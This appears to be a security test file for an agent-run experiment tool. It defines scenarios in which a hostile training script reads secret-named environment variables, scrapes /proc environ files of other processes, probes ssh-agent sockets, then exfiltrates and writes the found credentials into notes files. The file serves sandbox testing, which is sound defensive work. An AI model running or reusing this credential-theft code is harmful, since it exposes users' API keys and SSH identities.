// Attacks on credentials: what the eval can read of autoexp's keys, and where it can put them.
import {
  BASELINE,
  NOT_KEPT,
  type Scenario,
  type ScenarioContext,
} from "../../helpers/security-types.ts";
import { hostile, SECRET_NAME, say, shWrite } from "./hostile.ts";

/** Prints what was found (the eval's log), sends it out, and writes it into every notes.md. */
const spill = (step: string) => `const text = [...found].join("\\n");
__beacon(${JSON.stringify(step)}, found.size + " credential(s) found: " + [...found].map((kv) => kv.split("=")[0]).join(", "));
console.log(text);
__exfil(text);
for (const log of __findFiles("log.jsonl")) {
  try { __fs.appendFileSync(__path.join(__path.dirname(log), "notes.md"), text + "\\n"); } catch {}
}`;

const keyAttack = (
  name: string,
  what: string,
  attack: (ctx: ScenarioContext) => string,
): Scenario => ({
  name,
  kind: "attack",
  what,
  layout: "js",
  agent: (ctx) => [shWrite("train.js", hostile(ctx, attack(ctx))) + say("tune")],
  witness: [name],
  honest: [BASELINE, NOT_KEPT],
});

export const KEY_ATTACKS: Scenario[] = [
  keyAttack(
    "keys-env",
    "the eval reads credentials from its own environment (AWS, W&B, Cohere, legacy Hugging Face, GitHub...)",
    () => `const found = new Set();
for (const [k, v] of Object.entries(process.env)) if (${SECRET_NAME}.test(k)) found.add(k + "=" + v);
${spill("keys-env")}`,
  ),
  keyAttack(
    "keys-proc-environ",
    "the eval reads /proc/<pid>/environ of its ancestors (autoexp) and of every process it can see",
    () => `const found = new Set();
const read = (pid) => {
  try {
    for (const kv of __fs.readFileSync("/proc/" + pid + "/environ", "utf8").split("\\0"))
      if (${SECRET_NAME}.test(kv.split("=")[0])) found.add(kv);
  } catch {}
};
let pid = process.ppid;
for (let i = 0; i < 12 && pid > 0; i++) {
  read(pid);
  try { pid = Number(/PPid:\\s+(\\d+)/.exec(__fs.readFileSync("/proc/" + pid + "/status", "utf8"))[1]); } catch { break; }
}
for (const p of __fs.readdirSync("/proc")) if (/^\\d+$/.test(p) && Number(p) !== process.pid) read(p);
${spill("keys-proc-environ")}`,
  ),
  keyAttack(
    "ssh-agent",
    "the eval connects to the user's ssh-agent: $SSH_AUTH_SOCK, or the sockets under /tmp/ssh-*",
    (ctx) => `const socks = new Set();
if (process.env.SSH_AUTH_SOCK) socks.add(process.env.SSH_AUTH_SOCK);
try {
  for (const d of __fs.readdirSync("/tmp")) if (d.startsWith("ssh-"))
    for (const f of __fs.readdirSync("/tmp/" + d)) if (f.startsWith("agent.")) socks.add("/tmp/" + d + "/" + f);
} catch {}
if (socks.size === 0) __beacon("ssh-agent", "found no ssh-agent socket");
for (const s of socks) {
  __try("ssh-agent", () => {
    __cp.execFileSync(process.execPath, ["-e", "const c=require('node:net').connect(process.argv[1],()=>c.end('sign-request '+process.argv[2]));c.on('error',(e)=>{console.log(e.code);process.exitCode=1});c.setTimeout(1500,()=>c.destroy())", s, ${JSON.stringify(ctx.runId)}], { timeout: 4000, stdio: ["ignore", "pipe", "ignore"] });
    return "connected to " + s;
  });
}`,
  ),
];
